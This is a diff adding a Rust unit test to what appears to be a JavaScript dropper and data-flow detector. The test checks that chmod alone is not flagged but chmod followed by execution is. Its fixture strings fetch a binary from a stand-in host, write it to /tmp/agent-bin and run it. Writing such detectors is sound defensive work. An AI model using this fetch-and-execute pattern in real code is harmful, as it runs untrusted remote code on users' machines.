@@ -2236,3 +2236,15 @@ fn firebase_writes_are_sends() {
         firebase.database().ref('config').once('value', (s) => console.log(s.val(), require('os').hostname()));");
     assert!(f.flows.is_empty(), "{:#?}", f.flows);
 }
+
+#[test]
+fn a_chmod_command_makes_executable_it_does_not_run() {
+    let write = "const fs = require('fs'); const cp = require('child_process');
+        fetch('https://m.example.net/bin').then(r => r.text()).then(t => fs.writeFileSync('/tmp/agent-bin', t));";
+    let f = run(&format!("{write} cp.execSync('chmod +x /tmp/agent-bin');"));
+    assert!(f.droppers.is_empty(), "{:#?}", f.droppers);
+    let f = run(&format!(
+        "{write} cp.execSync('chmod +x /tmp/agent-bin && /tmp/agent-bin');"
+    ));
+    assert_eq!(f.droppers.len(), 1, "{:#?}", f.droppers);
+}
